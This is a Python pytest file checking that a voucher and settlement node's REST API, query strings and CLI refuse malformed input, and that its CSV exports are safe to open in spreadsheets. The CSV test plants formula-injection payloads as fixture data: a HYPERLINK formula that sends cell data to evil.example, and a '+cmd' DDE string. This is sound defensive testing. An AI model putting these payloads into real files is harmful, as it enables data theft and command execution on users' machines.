"""One strict parsing path for every REST input, tested as a property (hypothesis) and through
the real app: whatever the bytes of a body or a query string, the answer is a result or a 4xx
naming the problem, never a 500; duplicate keys, deep nesting, non-ASCII digits and integers
past 64 bits are refused; nothing changes on a refusal."""

from __future__ import annotations

import json
from typing import Any

import pytest
from aiohttp.test_utils import make_mocked_request
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from node import errors
from node.api.parse import MAX_DEPTH, Query, parse_json
from node.domain.fields import INT64_MAX, check_period, is_region, parse_int
from node.node import Node
from node.store.engine import connect_readonly
from tests.conftest import World, demand, examples, order, snapshot

JSON_SCALARS = st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20)
JSON_VALUES = st.recursive(
    JSON_SCALARS,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner),
    max_leaves=20,
)


@settings(max_examples=examples(300), suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=200) | JSON_VALUES.map(lambda v: json.dumps(v).encode()))
def test_a_body_parses_or_is_refused_with_a_sentence(raw: bytes) -> None:
    try:
        parse_json(raw)
    except errors.InvalidRequest as exc:
        assert exc.message and "Traceback" not in exc.message


@settings(max_examples=examples(300))
@given(st.text(max_size=30), st.integers(-(2**80), 2**80), st.integers(-(2**80), 2**80))
def test_a_query_integer_is_ascii_digits_within_int64(text: str, low: int, high: int) -> None:
    low, high = sorted((max(0, low), max(0, high)))
    try:
        value = parse_int("n", text, low, high)
    except errors.InvalidRequest:
        assert not (text.isascii() and text.isdigit()) or not low <= int(text) <= min(
            high, INT64_MAX
        )
    else:
        assert text.isascii() and text.isdigit() and low <= value <= min(high, INT64_MAX)


@settings(max_examples=examples(300))
@given(
    st.dictionaries(
        st.sampled_from(["year", "limit", "after", "until", "all", "x"]),
        st.text(max_size=30),
        max_size=4,
    )
)
def test_any_query_string_is_read_or_refused(params: dict[str, str]) -> None:
    from urllib.parse import urlencode

    request = make_mocked_request("GET", "/v1/x?" + urlencode(params))
    query = Query(request)
    try:
        query.integer("year", minimum=2000, maximum=2200)
        query.page()
        query.time("until")
        query.flag("all")
        query.done()
    except errors.InvalidRequest as exc:
        assert exc.message
    else:
        assert "x" not in params


def test_the_named_bad_bodies() -> None:
    with pytest.raises(errors.InvalidRequest, match="appears more than once"):
        parse_json(b'{"order_amount_fen": 100, "order_amount_fen": 100000000}')
    with pytest.raises(errors.InvalidRequest, match="nests deeper"):
        parse_json(b"[" * 100_000 + b"]" * 100_000)  # a RecursionError before
    with pytest.raises(errors.InvalidRequest, match="nests deeper"):
        parse_json(b"[" * (MAX_DEPTH + 1) + b"]" * (MAX_DEPTH + 1))
    parse_json(b"[" * MAX_DEPTH + b"]" * MAX_DEPTH)
    for constant in (b"NaN", b"Infinity", b"-Infinity"):
        with pytest.raises(errors.InvalidRequest, match="not a JSON number"):
            parse_json(b'{"a": ' + constant + b"}")
    with pytest.raises(errors.InvalidRequest, match="not valid JSON"):
        parse_json(b'{"a": ' + b"9" * 5000 + b"}")  # past Python's 4,300-digit limit


def test_field_rules() -> None:
    assert is_region("330100") and not is_region("abc") and not is_region("３３０１００")
    assert not is_region("33010²") and not is_region("033010") and not is_region("3301000")
    check_period("2026-01-01", "2026-01-01")
    for start, end, message in [
        ("2026-02-01", "2026-01-01", "must not be before"),
        ("a", "2026-01-01", "period_start: must be an ISO 8601 date"),
        ("2026-01-01", "2026-13-01", "period_end: 2026-13-01 is not a calendar date"),
        ("２０２６-01-01", "2026-01-01", "period_start"),
        ("2026-Q1", "2026-Q4", "period_start"),
    ]:
        with pytest.raises(errors.InvalidRequest, match=message):
            check_period(start, end)


# Through the real app --------------------------------------------------------------------


async def _raw(api: Any, method: str, path: str, data: bytes) -> tuple[int, dict[str, Any]]:
    headers = {"Authorization": f"Bearer {api.token}", "Content-Type": "application/json"}
    resp = await api.client.request(method, path, data=data, headers=headers)
    return resp.status, await resp.json()


async def test_a_duplicate_key_places_no_hold(world: World, node: Node) -> None:
    v = await world.voucher("acme", 100_000_000)
    code = await world.code("acme", v["id"], "alicloud", 5_000_000)
    before = snapshot(node)
    raw = (
        b'{"code": "' + code.encode() + b'", "order_id": "O-1", "compute_class": "model_services",'
        b' "order_amount_fen": 100, "order_amount_fen": 100000000}'
    )
    status, body = await _raw(world.providers["alicloud"], "POST", "/v1/holds", raw)
    assert status == 400 and body["error"]["code"] == "invalid_request"
    assert "order_amount_fen: appears more than once" in body["error"]["message"]
    assert snapshot(node) == before


async def test_deep_json_is_a_400(world: World, node: Node) -> None:
    before = snapshot(node)
    status, body = await _raw(world.op, "POST", "/v1/holders", b"[" * 20_000 + b"]" * 20_000)
    assert status == 400 and "nests deeper" in body["error"]["message"]
    assert snapshot(node) == before


@pytest.mark.parametrize(
    ("path", "message"),
    [
        ("/v1/journal?after=1180591620717411303424", "after: must be between"),  # 2^70
        ("/v1/journal?after=-1", "after: must be a whole number"),
        ("/v1/journal?limit=²", "limit: must be a whole number"),
        ("/v1/journal?kind=nope", "kind: must be one of"),
        ("/v1/policy?year=²", "year: must be a whole number"),
        ("/v1/policy?year=٢٠٢٦", "year: must be a whole number"),
        ("/v1/policy?year=99999999999999999999999", "year: must be between"),
        ("/v1/policy?year=2026&year=2027", "year: given more than once"),
        ("/v1/holders?limit=100000000000000000000", "limit: must be between"),
        ("/v1/holders?limit=1&colour=red", "colour: unknown query parameter"),
        ("/v1/settlement/payouts?format=xml", "format: must be one of"),
        ("/v1/settlement/disputes?all=maybe", "all: must be one of"),
        ("/v1/settlement/payouts?after=a%00b", "after: control characters"),
    ],
)
async def test_bad_query_parameters_are_400s(world: World, path: str, message: str) -> None:
    err = await world.op.get(path, expect=400, code="invalid_request")
    assert message in err["error"]["message"], err


async def test_every_field_is_validated(world: World, node: Node) -> None:
    before = snapshot(node)
    acme = world.holders["acme"]
    for extra, message in [
        ({"period_start": "whenever"}, "period_start: must be an ISO 8601 date"),
        ({"period_start": "2026-12-31", "period_end": "2026-01-01"}, "must not be before"),
        ({"period_end": "2026-02-30"}, "not a calendar date"),
    ]:
        err = await acme.post(
            "/v1/demands",
            demand("model_services", 100, **extra),
            expect=400,
            code="invalid_request",
        )
        assert message in err["error"]["message"]
    for region in ("abc", "33010²", "000000", "1234567"):
        err = await world.op.post(
            "/v1/providers",
            {
                "uscc": "91330100MA2B3C4D5X",
                "name": "p",
                "kind": "computing_centre",
                "region": region,
            },
            expect=400,
            code="invalid_request",
        )
        assert "region: must be a 6-digit GB/T 2260 region code" in err["error"]["message"]
    for name in ("bidi \u202e override", "del \x7f", "c1 \x85"):
        await world.op.post(
            "/v1/holders",
            {"uscc": "91330100716105852F", "name": name, "category": "enterprise"},
            expect=400,
            code="invalid_request",
        )
    assert snapshot(node) == before
    # and a good demand still goes through
    await acme.post("/v1/demands", demand("model_services", 100), expect=201)
    await acme.post("/v1/holds", order("sac_x", "O", 1), expect=403)


# Output: CSV safe in a spreadsheet ------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


async def test_every_csv_the_node_writes_is_safe_in_a_spreadsheet(
    world: World, node: Node, tmp_path: Any
) -> None:
    import csv
    import io

    from node.csvout import TRIGGERS, original
    from node.reports import REPORTS, export
    from node.services.common import SYSTEM
    from tests.conftest import valid_uscc

    # Text that people or providers chose, each beginning with a formula trigger.
    created = await world.op.post(
        "/v1/holders",
        {"uscc": valid_uscc("91330100MA2XYW001"), "name": "@SUM(1+1)", "category": "enterprise"},
        expect=201,
    )
    await world.op.as_(created["token"]).post(
        "/v1/demands", demand("model_services", 1_000_000), expect=201
    )
    await world.op.post(
        "/v1/providers",
        {
            "uscc": valid_uscc("91330100MA2XYW002"),
            "name": "+cmd|' /C calc'!A0",
            "kind": "computing_centre",
            "approved": True,
        },
        expect=201,
    )
    v = await world.voucher("acme", 100_000_000)
    code = await world.code("acme", v["id"], "alicloud", 5_000_000)
    await world.providers["alicloud"].post(
        "/v1/redemptions", order(code, FORMULA, 1_000_000), expect=201
    )
    code = await world.code("acme", v["id"], "alicloud", 5_000_000)
    await world.providers["alicloud"].post(
        "/v1/redemptions", order(code, "-2+3", 1_000_000), expect=201
    )
    closed = await node.settlement.close(SYSTEM, None)
    assert closed["payouts"] == 1

    outputs: dict[str, str] = {}
    for report in REPORTS:
        out = io.StringIO()
        conn = connect_readonly(node.config)
        try:
            export(conn, report, "csv", out, node.config.region)
        finally:
            conn.close()
        outputs[report] = out.getvalue()
    outputs["payouts"] = "".join([c async for c in node.settlement.payouts_csv(SYSTEM, None)])
    resp = await world.op.client.get(
        "/v1/settlement/payouts?format=csv", headers={"Authorization": f"Bearer {world.op.token}"}
    )
    outputs["payouts over REST"] = await resp.text()

    seen, cells = set(), {}
    for name, text in outputs.items():
        cells[name] = [value for row in csv.reader(io.StringIO(text)) for value in row]
        for value in cells[name]:
            assert not value.startswith(TRIGGERS[:-1]), (name, value)
            seen.add(original(value))
    # The values are all there, and come back exactly.
    assert {FORMULA, "-2+3", "@SUM(1+1)", "+cmd|' /C calc'!A0"} <= seen
    for name in ("captures", "payouts", "payouts over REST", "statement_records"):
        assert "'" + FORMULA in cells[name], name


@pytest.mark.parametrize(
    "argv",
    [
        ["peer", "set", "330100", "--exposure-cap-fen", "1180591620717411303424"],
        ["peer", "set", "330100", "--exposure-cap-fen", "²"],
        ["serve", "--port", "70000"],
        ["key", "rotate", "--overlap-hours", "nan"],
        ["policy", "show", "--year", "٢٠٢٦"],
    ],
)
def test_the_cli_bounds_its_numbers_too(
    argv: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    from node.cli import parser

    with pytest.raises(SystemExit) as exit_:
        parser().parse_args(argv)
    assert exit_.value.code == 2
    assert "error: argument" in capsys.readouterr().err
